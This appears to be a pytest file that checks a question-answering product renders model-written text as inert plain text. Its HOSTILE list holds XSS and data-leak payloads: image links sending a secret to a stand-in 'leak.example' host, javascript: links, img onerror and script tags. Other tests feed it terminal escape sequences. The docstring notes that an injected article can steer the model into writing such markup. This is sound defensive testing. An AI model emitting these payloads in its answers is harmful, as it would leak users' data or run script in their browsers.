"""The model's words are text, not markup (issue 26, item 5): pure rendering.

An article can steer the model, so every form of markup it could make the model write is fed
to ``qa.faces.render`` here, and the result is read the way a browser would read it: through
a CommonMark renderer with raw HTML allowed (markdown-it), then an HTML parser. What the
model wrote must come out as the same visible text, forming no image, no HTML element and no
link but a plain http(s) one that shows its URL; the product's own markup still forms. The
real chat window in Chromium is tested in test_ui_hostile.py.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from qa.faces.cli import format_answer
from qa.faces.render import as_text, render_answer, render_chat, terminal_text
from qa.models import Answer

HOSTILE = [
    "![x](http://leak.example/leak?q=secret)",
    "[click](javascript:alert(1))",
    '<img src="http://leak.example/i.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)" onclick="alert(2)">open</a>',
    "<iframe src=http://leak.example/f></iframe><script>alert(1)</script>",
    "[the source](http://leak.example/hidden) and [ref][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)> <http://leak.example/auto>",
    "&lt;img src=x onerror=alert(1)&gt; \\<b>bold\\</b>",
    "**bold** _it_ ~~gone~~ `code` | a | b |",
    "www.leak.example, me@leak.example, ftp://leak.example/x",
]
BLOCKS = ["# Heading", "- item", "+ item", "1. item", "    indented code", "---", "> quote",
          "```\nfenced\n```", "Title\n=====", "a | b\n--|--\n1 | 2"]


class _Page(HTMLParser):
    """What a browser would build from HTML: its elements (tag, attributes), visible text (a
    ``<br>`` read as a newline) and links (href, visible text)."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.parts: list[str] = []
        self.links: list[tuple[str, str]] = []
        self._in_link = False
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        if tag == "br":
            self.parts.append("\n")
        if tag == "a":
            self.links.append((self.elements[-1][1].get("href", ""), ""))
            self._in_link = True

    def handle_endtag(self, tag: str) -> None:
        if tag == "a":
            self._in_link = False

    def handle_data(self, data: str) -> None:
        self.parts.append(data)
        if self._in_link:
            self.links[-1] = (self.links[-1][0], self.links[-1][1] + data)

    @property
    def text(self) -> str:
        return "".join(self.parts).strip()

    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}


def page(markdown: str) -> _Page:
    """``markdown`` as the chat shows it: CommonMark with raw HTML and GFM tables."""
    return _Page(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))


def assert_inert(shown: _Page) -> None:
    """No element the model could have made act: no event handler, no element that loads
    anything, no link but ours (citations) and plain http(s) ones showing where they go."""
    for tag, attrs in shown.elements:
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        assert tag not in {"img", "iframe", "script", "svg", "video", "audio", "object", "embed",
                           "source", "link", "style", "form", "input"}, (tag, attrs)
    for tag, attrs in shown.elements:
        if tag == "a":
            assert attrs.get("class") == "qa-cite" or re.fullmatch(
                r"https?://[^\s\"<>]+", attrs["href"]), attrs


def answer_dict(tail: str, **overrides: Any) -> dict[str, Any]:
    """An answer citing one source, [1], with ``tail`` after its first sentence."""
    base = {"question": "q", "text": f"Stoltenberg spoke at Ramstein [1]. {tail}",
            "refused": False, "unsupported": [], "citations": [{
                "number": 1, "title": "NATO", "source": "VOA",
                "published_at": "2023-04-21T00:00:00", "url": "", "path": "a.txt",
                "quote": "He spoke at Ramstein.", "passage": "He spoke at Ramstein.",
                "highlights": [[0, 21]]}]}
    return {**base, **overrides}


# What ``as_text`` writes beside characters: plain links, line breaks, character references.
OURS = re.compile(r'<a href="[^"<>]*" target="_blank" rel="noopener noreferrer nofollow">'
                  r"|</a>|<br>|&#\d+;|&(amp|lt|gt);")
# ... and the product's own markup around it in an answer.
PRODUCT = re.compile(r'<a class="qa-cite" href="#src-\d+-\d+">\[\d+\]</a>|</span>|</?small[^>]*>'
                     r'|<span class="qa-(unsupported|lexical)" title="[^"<>]*">')
SYNTAX = set("<>[]()*_`~|#@\\")  # what markdown reads as syntax, wherever it stands


@pytest.mark.parametrize("hostile", HOSTILE + BLOCKS)
def test_what_the_model_writes_is_shown_as_written_and_forms_no_markup(hostile: str) -> None:
    markdown = as_text(hostile)
    # beside its own tags, no character that any markdown (marked's GFM in the chat, or
    # markdown-it here) reads as syntax is left as itself
    assert not set(OURS.sub("", markdown)) & SYNTAX, markdown
    shown = page(markdown)
    assert_inert(shown)
    assert shown.text == hostile.strip()
    assert shown.tags() <= {"p", "br", "a"}, shown.tags()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_answer_renders_as_text_around_the_products_own_markup(hostile: str) -> None:
    """In a finished answer, whether its sentence is marked unsupported or not, with the
    verdict's wrapper or without: the product's links and marks form, the model's words
    do not."""
    sentence = f"Look {hostile} here."
    for extra in ({}, {"unsupported": [sentence]}, {"verdict": "lexical"}):
        markdown = render_answer(answer_dict(sentence, **extra), turn=2)
        assert not set(OURS.sub("", PRODUCT.sub("", markdown))) & SYNTAX, markdown
        shown = page(markdown)
        assert_inert(shown)
        assert '<a class="qa-cite" href="#src-2-1">[1]</a>' in markdown
        assert ("span", {"class": "qa-unsupported", "title": "Not supported by what it cites"}
                ) in shown.elements or not extra.get("unsupported")
        for line in hostile.split("\n"):
            assert line in shown.text, (line, shown.text)


def test_a_link_the_model_writes_is_plain_and_shows_its_url() -> None:
    text = ("See [the report](https://news.example/a_b?x=1&y=(2)), or "
            "https://news.example/c. And (http://news.example/d).")
    shown = page(as_text(text))
    urls = ["https://news.example/a_b?x=1&y=(2)", "https://news.example/c",
            "http://news.example/d"]
    assert shown.links == [(url, url) for url in urls]  # each shows where it goes
    assert shown.text == text
    assert all(attrs["target"] == "_blank" and "noopener" in attrs["rel"]
               for tag, attrs in shown.elements if tag == "a")
    # nothing else the chat's markdown would turn into a link on its own (GFM autolinks)
    inert = as_text("www.leak.example me@leak.example ftp://leak.example/x")
    assert "www&#46;" in inert and "me&#64;leak" in inert and "ftp&#58;//" in inert


def test_an_uncited_number_in_brackets_defines_no_link() -> None:
    """"[150] billion" stays as written; "[7]: http://…" at the start of the answer would
    define [7] as a link to a URL nobody sees, for the rest of the page."""
    answer = answer_dict("", text="[7]: http://leak.example/q?secret\nThen [7] came [1].")
    markdown = render_answer(answer, turn=1)
    shown = page(markdown)
    assert_inert(shown)
    assert shown.links == [("http://leak.example/q?secret",) * 2, ("#src-1-1", "[1]")]
    assert shown.text.startswith("[7]: http://leak.example/q?secret\nThen [7] came [1].")


def test_ordinary_answers_read_as_before() -> None:
    text = ("NATO's chief said allies delivered €150 billion in support [1]; "
            "“Ukraine’s place is in NATO,” he said (in Kyiv) - on Friday, 21 April 2023!")
    markdown = render_answer(answer_dict("", text=text), turn=4)
    assert page(markdown).text == text
    assert markdown.count('<a class="qa-cite" href="#src-4-1">[1]</a>') == 1
    assert "NATO's chief" in markdown and "€150 billion" in markdown  # no needless escapes


def test_questions_errors_and_file_names_are_text_too() -> None:
    turns = [{"question": "<img src=x onerror=alert(1)> ![q](http://leak.example/q)",
              "error": "[bad](javascript:alert(1)) <b>x</b>"}]
    user, error = render_chat(turns)
    for message in (user, error):
        assert_inert(page(message["content"]))
        assert "<img" not in message["content"] and "](" not in message["content"]
    gone = render_answer(answer_dict("", files_gone=["[x](javascript:alert(1)).txt",
                                                     "![i](http://leak.example/i).txt"]), 1)
    shown = page(gone)
    assert_inert(shown)
    assert "([x](javascript:alert(1)).txt, ![i](http://leak.example/i).txt)" in shown.text
    assert "<code>qa index</code>" in MarkdownIt("commonmark", {"html": True}).render(gone)


def test_the_terminal_gets_no_escape_sequence_from_the_model() -> None:
    osc8 = "\x1b]8;;http://leak.example/\x1b\\click\x1b]8;;\x1b\\"
    assert terminal_text(f"a{osc8}\x07b\x9b2Jc\td\ne “é”") == (
        "a]8;;http://leak.example/\\click]8;;\\b2Jc\td\ne “é”")
    printed = format_answer(Answer(question="q", text=f"Red \x1b[31mtext\x1b[0m {osc8}",
                                   unsupported=("\x1b[2J",)))
    assert "\x1b" not in printed and "Red [31mtext[0m" in printed
